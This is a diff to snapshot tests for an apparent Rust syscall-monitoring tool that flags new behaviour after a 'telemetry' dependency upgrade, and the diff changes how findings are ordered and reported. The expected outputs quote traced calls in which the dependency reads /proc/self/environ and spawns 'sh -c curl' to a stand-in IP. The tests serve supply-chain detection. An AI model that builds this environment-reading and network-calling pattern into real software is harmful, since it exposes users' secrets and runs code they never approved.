@@ -151,19 +151,19 @@ fn failure_fits_on_one_screen() {
     @31f81854 src/main.rs:2 greeter::main → telemetry 1.5.0 (1.4.0 when the baseline last
         changed): N new
       new-subsystem network
-      new-syscall   network::connect      connect(N, 198.51.100.7:443) = -1 ECONNREFUSED
-      new-syscall   network::socket       socket(AF_INET, SOCK_STREAM|SOCK_CLOEXEC, IPPROTO_IP) = N
-      new-syscall   process::clone3       clone3({CLONE_VM|CLONE_VFORK|SIGCHLD}, N) = N
-      new-syscall   process::openat       openat("/proc/self/environ", O_RDONLY|O_CLOEXEC) = N
-      new-syscall   process::read         read(N</proc/N/environ>, [N bytes], N) = N
-      and N more: filesystem::mkdir, openat O_WRONLY|O_CREAT file, write file, signal::rt_sigprocma…
+      new-syscall   network::connect        connect(N, 198.51.100.7:443) = -1 ECONNREFUSED
+      new-argument  process::execve::sh,file
+        execve("/usr/bin/sh", ["sh", "-c", "curl -s http://198.51.100.7/ -o "...], [N variables]) =…
+      new-syscall   network::socket         socket(AF_INET, SOCK_STREAM|SOCK_CLOEXEC, IPPROTO_IP) = N
+      new-syscall   filesystem::mkdir       mkdir("$HOME/.config/telemetry", N) = -1 ENOENT
+      new-argument  filesystem::openat::O_WRONLY|O_CREAT,file
+        openat("$HOME/.config/telemetry/id", O_WRONLY|O_CREAT|O_TRUNC|O_CLOEXEC, N) = N
+      new-syscall   process::clone3         clone3({CLONE_VM|CLONE_VFORK|SIGCHLD}, N) = N
+      and N more: process::openat, process::read, write file, signal::rt_sigprocmask
     @3813a02f greeter → sh → curl: N new
       in: greeter → sh -c … → curl -s http://198.51.100.7/ -o /dev/null
     @a1f47766 greeter → sh: N new
       in: greeter → sh -c …
-    @e6c69957 greeter: N new
-      new-argument process::execve::sh,file
-        execve("/usr/bin/sh", ["sh", "-c", "curl -s http://198.51.100.7/ -o "...], [N variables]) =…
 
     note: new, but of a known family: filesystem::statx beside newfstatat (family stat)
 
@@ -203,12 +203,13 @@ fn pull_request_formats_point_at_the_source_line() {
     |---|---|---:|---|
     | new subsystem | `greeter::network` | N | `socket(AF_INET, SOCK_STREAM\|SOCK_CLOEXEC, IPPROTO_IP) = N` |
     | new system call | `greeter::network::connect` | N | `global socket:AF_INET:SOCK_STREAM`; `connect(N, 198.51.100.7:443) = -1 ECONNREFUSED` |
+    | new argument | `greeter::process::execve::sh,file` | N | by `telemetry 1.5.0 (1.4.0 when the baseline last changed) telemetry::started`; `execve("/usr/bin/sh", ["sh", "-c", "curl -s http://198.51.100.7/ -o "...], [N variables]) = N` |
     | new system call | `greeter::network::socket` | N | `AF_INET socket:AF_INET:SOCK_STREAM`; `socket(AF_INET, SOCK_STREAM\|SOCK_CLOEXEC, IPPROTO_IP) = N` |
+    | new system call | `greeter::filesystem::mkdir` | N | `dir` by `telemetry 1.5.0 (1.4.0 when the baseline last changed) telemetry::remember`; `mkdir("$HOME/.config/telemetry", N) = -1 ENOENT` |
+    | new argument | `greeter::filesystem::openat::O_WRONLY\|O_CREAT,file` | N | by `telemetry 1.5.0 (1.4.0 when the baseline last changed) telemetry::remember`; `openat("$HOME/.config/telemetry/id", O_WRONLY\|O_CREAT\|O_TRUNC\|O_CLOEXEC, N) = N` |
     | new system call | `greeter::process::clone3` | N | by `telemetry 1.5.0 (1.4.0 when the baseline last changed) telemetry::started`; `clone3({CLONE_VM\|CLONE_VFORK\|SIGCHLD}, N) = N` |
     | new system call | `greeter::process::openat` | N | `file:proc` by `telemetry 1.5.0 (1.4.0 when the baseline last changed) telemetry::started`; `openat("/proc/self/environ", O_RDONLY\|O_CLOEXEC) = N` |
     | new system call | `greeter::process::read` | N | `file:proc` by `telemetry 1.5.0 (1.4.0 when the baseline last changed) telemetry::started`; `read(N</proc/N/environ>, [N bytes], N) = N` |
-    | new system call | `greeter::filesystem::mkdir` | N | `dir` by `telemetry 1.5.0 (1.4.0 when the baseline last changed) telemetry::remember`; `mkdir("$HOME/.config/telemetry", N) = -1 ENOENT` |
-    | new argument | `greeter::filesystem::openat::O_WRONLY\|O_CREAT,file` | N | by `telemetry 1.5.0 (1.4.0 when the baseline last changed) telemetry::remember`; `openat("$HOME/.config/telemetry/id", O_WRONLY\|O_CREAT\|O_TRUNC\|O_CLOEXEC, N) = N` |
     | new object | `greeter::filesystem::write::object=file` | N | by `telemetry 1.5.0 (1.4.0 when the baseline last changed) telemetry::remember`; `write(N<$HOME/.config/telemetry/id>, [N bytes]) = N` |
     | new system call | `greeter::signal::rt_sigprocmask` | N | by `telemetry 1.5.0 (1.4.0 when the baseline last changed) telemetry::started`; `rt_sigprocmask(SIG_BLOCK, ~[], [], N) = N` |
     | note | `greeter::filesystem::statx` | N | beside newfstatat (family stat); `file:proc` by `telemetry 1.5.0 (1.4.0 when the baseline last changed) telemetry::started`; `statx(N</proc/N/environ>, "", AT_EMPTY_PATH, STATX_BASIC_STATS\|STATX_BTIME, 0xN) = N` |
@@ -224,17 +225,18 @@ fn pull_request_formats_point_at_the_source_line() {
     let annotations = written("github", &variables);
     let first = annotations.lines().next().expect("an annotation");
     insta::assert_snapshot!(normalised(&first.replace("%0A", "\n")), @r#"
-    ::error file=src/main.rs,line=2,title=sysguard%3A src/main.rs%3A2 greeter%3A%3Amain → telemetry 1.5.0 (1.4.0 when the baseline last changed)::10 new (network::connect, network::socket, process::clone3 …)
+    ::error file=src/main.rs,line=2,title=sysguard%3A src/main.rs%3A2 greeter%3A%3Amain → telemetry 1.5.0 (1.4.0 when the baseline last changed)::11 new (network::connect, execve sh file, network::socket …)
     new-subsystem greeter::network: socket(AF_INET, SOCK_STREAM|SOCK_CLOEXEC, IPPROTO_IP) = N
     new-syscall greeter::network::connect: connect(N, 198.51.100.7:443) = -1 ECONNREFUSED
+    new-argument greeter::process::execve::sh,file: execve("/usr/bin/sh", ["sh", "-c", "curl -s http://198.51.100.7/ -o "...], [N variables]) = N
     new-syscall greeter::network::socket: socket(AF_INET, SOCK_STREAM|SOCK_CLOEXEC, IPPROTO_IP) = N
+    new-syscall greeter::filesystem::mkdir: mkdir("$HOME/.config/telemetry", N) = -1 ENOENT
+    new-argument greeter::filesystem::openat::O_WRONLY|O_CREAT,file: openat("$HOME/.config/telemetry/id", O_WRONLY|O_CREAT|O_TRUNC|O_CLOEXEC, N) = N
     new-syscall greeter::process::clone3: clone3({CLONE_VM|CLONE_VFORK|SIGCHLD}, N) = N
     new-syscall greeter::process::openat: openat("/proc/self/environ", O_RDONLY|O_CLOEXEC) = N
     new-syscall greeter::process::read: read(N</proc/N/environ>, [N bytes], N) = N
-    new-syscall greeter::filesystem::mkdir: mkdir("$HOME/.config/telemetry", N) = -1 ENOENT
-    new-argument greeter::filesystem::openat::O_WRONLY|O_CREAT,file: openat("$HOME/.config/telemetry/id", O_WRONLY|O_CREAT|O_TRUNC|O_CLOEXEC, N) = N
     new-object greeter::filesystem::write::object=file: write(N<$HOME/.config/telemetry/id>, [N bytes]) = N
-    new-syscall greeter::signal::rt_sigprocmask: rt_sigprocmask(SIG_BLOCK, ~[], [], N) = N
+    … N more finding: see the summary
     in: greeter
     by telemetry 1.5.0 (1.4.0 when the baseline last changed) telemetry::send, called by greeter::main at src/main.rs:2
     next: cargo sysguard test, then cargo sysguard accept @31f81854
@@ -315,11 +317,12 @@ fn code_tools_point_at_the_source_line() {
     "critical" src/main.rs:2 new subsystem: greeter::network (by telemetry 1.5.0 (1.4.0 when the baseline last changed) telemetry::send, called by greeter::main at src/main.rs:2): socket(AF_INET, SOCK_STREAM|SOCK_CLOEXEC, IPPROTO_IP) = N in greeter
     "major" src/main.rs:2 new system call: greeter::network::connect (global socket:AF_INET:SOCK_STREAM, by telemetry 1.5.0 (1.4.0 when the baseline last changed) telemetry::send, called by greeter::main at src/main.rs:2): connect(N, 198.51.100.7:443) = -1 ECONNREFUSED in greeter
     "major" src/main.rs:2 new system call: greeter::network::socket (AF_INET socket:AF_INET:SOCK_STREAM, by telemetry 1.5.0 (1.4.0 when the baseline last changed) telemetry::send, called by greeter::main at src/main.rs:2): socket(AF_INET, SOCK_STREAM|SOCK_CLOEXEC, IPPROTO_IP) = N in greeter
+    "major" src/main.rs:2 new system call: greeter::filesystem::mkdir (dir, by telemetry 1.5.0 (1.4.0 when the baseline last changed) telemetry::remember, called by greeter::main at src/main.rs:2): mkdir("$HOME/.config/telemetry", N) = -1 ENOENT in greeter
     "major" src/main.rs:2 new system call: greeter::process::clone3 (by telemetry 1.5.0 (1.4.0 when the baseline last changed) telemetry::started, called by greeter::main at src/main.rs:2): clone3({CLONE_VM|CLONE_VFORK|SIGCHLD}, N) = N in greeter
     "major" src/main.rs:2 new system call: greeter::process::openat (file:proc, by telemetry 1.5.0 (1.4.0 when the baseline last changed) telemetry::started, called by greeter::main at src/main.rs:2): openat("/proc/self/environ", O_RDONLY|O_CLOEXEC) = N in greeter
     "major" src/main.rs:2 new system call: greeter::process::read (file:proc, by telemetry 1.5.0 (1.4.0 when the baseline last changed) telemetry::started, called by greeter::main at src/main.rs:2): read(N</proc/N/environ>, [N bytes], N) = N in greeter
-    "major" src/main.rs:2 new system call: greeter::filesystem::mkdir (dir, by telemetry 1.5.0 (1.4.0 when the baseline last changed) telemetry::remember, called by greeter::main at src/main.rs:2): mkdir("$HOME/.config/telemetry", N) = -1 ENOENT in greeter
     "major" src/main.rs:2 new system call: greeter::signal::rt_sigprocmask (by telemetry 1.5.0 (1.4.0 when the baseline last changed) telemetry::started, called by greeter::main at src/main.rs:2): rt_sigprocmask(SIG_BLOCK, ~[], [], N) = N in greeter
+    "minor" src/main.rs:2 new argument: greeter::process::execve::sh,file (by telemetry 1.5.0 (1.4.0 when the baseline last changed) telemetry::started, called by greeter::main at src/main.rs:2): execve("/usr/bin/sh", ["sh", "-c", "curl -s http://198.51.100.7/ -o "...], [N variables]) = N in greeter
     "minor" src/main.rs:2 new argument: greeter::filesystem::openat::O_WRONLY|O_CREAT,file (by telemetry 1.5.0 (1.4.0 when the baseline last changed) telemetry::remember, called by greeter::main at src/main.rs:2): openat("$HOME/.config/telemetry/id", O_WRONLY|O_CREAT|O_TRUNC|O_CLOEXEC, N) = N in greeter
     "minor" src/main.rs:2 new object: greeter::filesystem::write::object=file (by telemetry 1.5.0 (1.4.0 when the baseline last changed) telemetry::remember, called by greeter::main at src/main.rs:2): write(N<$HOME/.config/telemetry/id>, [N bytes]) = N in greeter
     "info" src/main.rs:2 note: greeter::filesystem::statx (beside newfstatat (family stat), file:proc, by telemetry 1.5.0 (1.4.0 when the baseline last changed) telemetry::started, called by greeter::main at src/main.rs:2): statx(N</proc/N/environ>, "", AT_EMPTY_PATH, STATX_BASIC_STATS|STATX_BTIME, 0xN) = N in greeter
